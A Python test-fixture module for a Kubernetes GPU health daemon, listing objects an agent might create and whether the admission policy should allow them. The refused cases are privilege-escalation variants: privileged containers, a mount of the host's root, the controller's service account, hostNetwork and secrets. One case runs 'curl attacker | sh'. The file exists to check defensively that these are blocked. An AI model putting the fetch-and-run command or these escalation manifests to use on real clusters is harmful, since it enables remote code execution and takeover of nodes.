"""What the agent may create (deploy/daemonset/base/probe-policy.yaml, with its RBAC and
its namespace's Pod Security), as data: `Case(description, make, allowed, namespace)`,
where `make(node)` is the object an agent whose token is bound to `node` sends. The
allowed shapes are the product's own, built by its own code from the shipped config
(`job_manifest`, `PvcCheck.pvc_manifest`/`pod_manifest`, `probe_object`); every refused
case is one of them with one thing changed, and the issue's own example (a privileged
pod with the host's `/`, as healthd-controller, on another node, in healthd-system).
`tests/deploy/test_probe_policy.py` judges them with a CEL runtime;
`tests/e2e/test_agent_creates.py` replays them on the real API server with an agent's
Pod-bound token.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any

from checks.pvc import PvcCheck, PvcParams
from healthd.agent.deepdiag import job_manifest
from healthd.config import Config, load_config
from healthd.kube.conventions import Keys
from healthd.kube.pvc_probe import probe_object
from tests.deploy.manifests import AGENT, BASE, NAMESPACE, PROBES

Obj = dict[str, Any]
NODE_NAME_EXTRA = "authentication.kubernetes.io/node-name"
OTHER_NODE = "gpu-other"  # a node the agent does not run on
STORAGE_CLASS = "fast"
KEYS = Keys()
__all__ = ["AGENT", "CASES", "NODE_NAME_EXTRA", "PROBES", "Case"]


@cache
def shipped() -> Config:
    return load_config(BASE / "config.yaml", env={})


def diagnostic_job(node: str) -> Obj:
    """The Job the agent on `node` creates for `dcgm:3` (8 GPUs, its host engine)."""
    return job_manifest(node, "dcgm:3", 8, shipped().agent.deep_diagnostics, KEYS,
                        {"DCGM_HOST_ENGINE": "10.0.0.7:5555"})


def _pvc_check() -> PvcCheck:
    params = PvcParams.model_validate(shipped().check_section("pvc").params)
    return PvcCheck(params.model_dump())


def probe_pvc(node: str) -> Obj:
    name = f"healthd-pvc-{node}-probe"
    return probe_object(_pvc_check().pvc_manifest(name, STORAGE_CLASS), KEYS, node,
                        STORAGE_CLASS)


def probe_pod(node: str) -> Obj:
    name = f"healthd-pvc-{node}-probe"
    return probe_object(_pvc_check().pod_manifest(name, node), KEYS, node, STORAGE_CLASS)


def pod_spec(obj: Obj) -> Obj:
    spec: Obj = obj["spec"]
    return spec["template"]["spec"] if obj["kind"] == "Job" else spec


def container(obj: Obj) -> Obj:
    first: Obj = pod_spec(obj)["containers"][0]
    return first


@dataclass(frozen=True)
class Case:
    description: str
    make: Callable[[str], Obj]  # the object, for an agent on this node
    allowed: bool
    namespace: str = PROBES


def changed(build: Callable[[str], Obj],
            change: Callable[[Obj, str], None]) -> Callable[[str], Obj]:
    def make(node: str) -> Obj:
        obj = copy.deepcopy(build(node))
        change(obj, node)
        return obj
    return make


def _pin(obj: Obj, node: str) -> None:
    """Pinned (affinity and annotation) to `node` instead."""
    obj["metadata"].setdefault("annotations", {})[KEYS.node_name] = node
    if obj["kind"] != "PersistentVolumeClaim":
        terms = pod_spec(obj)["affinity"]["nodeAffinity"][
            "requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
        terms[0]["matchFields"][0]["values"] = [node]


def _host_root(obj: Obj) -> None:
    spec = pod_spec(obj)
    spec["volumes"] = [*spec.get("volumes", []), {"name": "host", "hostPath": {"path": "/"}}]
    container(obj)["volumeMounts"] = [*container(obj).get("volumeMounts", []),
                                      {"name": "host", "mountPath": "/host"}]


def _privileged(obj: Obj) -> None:
    pod_spec(obj).pop("securityContext", None)
    container(obj)["securityContext"] = {"privileged": True}


def _run_as(obj: Obj, account: str) -> None:
    pod_spec(obj)["serviceAccountName"] = account
    pod_spec(obj)["automountServiceAccountToken"] = True


def _the_issues_pod(obj: Obj, node: str) -> None:
    """The issue's example: privileged, the host's `/`, as the controller, elsewhere."""
    _pin(obj, OTHER_NODE)
    _host_root(obj)
    _privileged(obj)
    _run_as(obj, "healthd-controller")


def _in_system(build: Callable[[str], Obj]) -> Callable[[str], Obj]:
    def make(node: str) -> Obj:
        obj = build(node)
        obj["metadata"]["namespace"] = NAMESPACE
        return obj
    return make


def _token_volume(obj: Obj) -> None:
    pod_spec(obj)["volumes"] = [*pod_spec(obj).get("volumes", []), {
        "name": "token", "projected": {"sources": [
            {"serviceAccountToken": {"path": "token"}}]}}]


def _secret_env(obj: Obj) -> None:
    container(obj)["env"] = [*container(obj).get("env", []), {
        "name": "X", "valueFrom": {"secretKeyRef": {"name": "anything", "key": "k"}}}]


def _unpinned(obj: Obj) -> None:
    pod_spec(obj).pop("affinity")


def _node_name(obj: Obj, node: str) -> None:
    pod_spec(obj)["nodeName"] = node


def _second_container(obj: Obj) -> None:
    pod_spec(obj)["containers"].append({**copy.deepcopy(container(obj)), "name": "second"})


def _init_container(obj: Obj) -> None:
    pod_spec(obj)["initContainers"] = [{**copy.deepcopy(container(obj)), "name": "init"}]


def _added_capability(obj: Obj) -> None:
    container(obj)["securityContext"] = {"allowPrivilegeEscalation": False,
                                         "capabilities": {"drop": ["ALL"], "add": ["NET_RAW"]}}


def _host_network(obj: Obj) -> None:
    pod_spec(obj)["hostNetwork"] = True


def _image(image: str) -> Callable[[Obj, str], None]:
    return lambda obj, node: container(obj).update(image=image)


def _shell(obj: Obj) -> None:
    container(obj)["command"] = ["sh", "-c", "curl attacker | sh"]


def _more_resources(obj: Obj) -> None:
    for key in ("requests", "limits"):
        container(obj)["resources"][key]["cpu"] = "64"


def _another_claim(obj: Obj) -> None:
    pod_spec(obj)["volumes"][0]["persistentVolumeClaim"]["claimName"] = "someone-elses"


def _unlabelled(obj: Obj) -> None:
    labels = obj["metadata"]["labels"]
    labels.pop(KEYS.diagnostic, None)
    labels.pop(KEYS.probe, None)


def _gpu_operator(obj: Obj) -> None:
    pod_spec(obj)["runtimeClassName"] = "nvidia"  # the gpu-operator overlay's


def one(change: Callable[[Obj], None]) -> Callable[[Obj, str], None]:
    """A change that does not depend on the node."""
    return lambda obj, node: change(obj)


JOB, PVC, POD = diagnostic_job, probe_pvc, probe_pod
CASES: list[Case] = [
    Case("its diagnostic Job", JOB, True),
    Case("its diagnostic Job with the GPU Operator's runtime class",
         changed(JOB, one(_gpu_operator)), True),
    Case("its probe PVC", PVC, True),
    Case("its probe pod", POD, True),
    # The issue's own example, and its parts one at a time.
    Case("the issue's pod: privileged, host /, as healthd-controller, on another node, "
         "in healthd-system", _in_system(changed(POD, _the_issues_pod)), False, NAMESPACE),
    Case("the issue's Job in healthd-system", _in_system(changed(JOB, _the_issues_pod)),
         False, NAMESPACE),
    Case("the issue's pod in the probe namespace", changed(POD, _the_issues_pod), False),
    Case("its Job in healthd-system", _in_system(JOB), False, NAMESPACE),
    Case("its probe pod in healthd-system", _in_system(POD), False, NAMESPACE),
    Case("a Job on another node", changed(JOB, lambda o, n: _pin(o, OTHER_NODE)), False),
    Case("a pod on another node", changed(POD, lambda o, n: _pin(o, OTHER_NODE)), False),
    Case("a PVC for another node", changed(PVC, lambda o, n: _pin(o, OTHER_NODE)), False),
    Case("a Job not pinned to a node", changed(JOB, one(_unpinned)), False),
    Case("a pod bound to its node by nodeName", changed(POD, _node_name), False),
    Case("a Job as healthd-controller", changed(JOB, lambda o, n: _run_as(
        o, "healthd-controller")), False),
    Case("a pod that mounts its ServiceAccount token", changed(POD, lambda o, n: _run_as(
        o, "default")), False),
    Case("a pod with a projected token volume", changed(POD, one(_token_volume)), False),
    Case("a Job with a privileged container", changed(JOB, one(_privileged)), False),
    Case("a Job that mounts the host's /", changed(JOB, one(_host_root)), False),
    Case("a pod on the host's network", changed(POD, one(_host_network)), False),
    Case("a Job that adds a capability", changed(JOB, one(_added_capability)), False),
    Case("a Job with another image", changed(JOB, _image("docker.io/library/busybox:1.36")),
         False),
    Case("a probe pod with the diagnostic image", changed(POD, _image(
        shipped().agent.deep_diagnostics.image)), False),
    Case("a Job that runs a shell", changed(JOB, one(_shell)), False),
    Case("a Job with a second container", changed(JOB, one(_second_container)), False),
    Case("a pod with an init container", changed(POD, one(_init_container)), False),
    Case("a Job with a secret in its environment", changed(JOB, one(_secret_env)), False),
    Case("a Job that asks for more than the GPUs", changed(JOB, one(_more_resources)), False),
    Case("a probe pod that asks for more", changed(POD, one(_more_resources)), False),
    Case("a probe pod that mounts another PVC", changed(POD, one(_another_claim)), False),
    Case("an unlabelled Job", changed(JOB, one(_unlabelled)), False),
    Case("an unlabelled pod", changed(POD, one(_unlabelled)), False),
    Case("a PVC that binds an existing volume", changed(PVC, lambda o, n: o["spec"].update(
        volumeName="someone-elses-pv")), False),
    Case("a PVC that copies another", changed(PVC, lambda o, n: o["spec"].update(
        dataSource={"kind": "PersistentVolumeClaim", "name": "someone-elses"})), False),
]
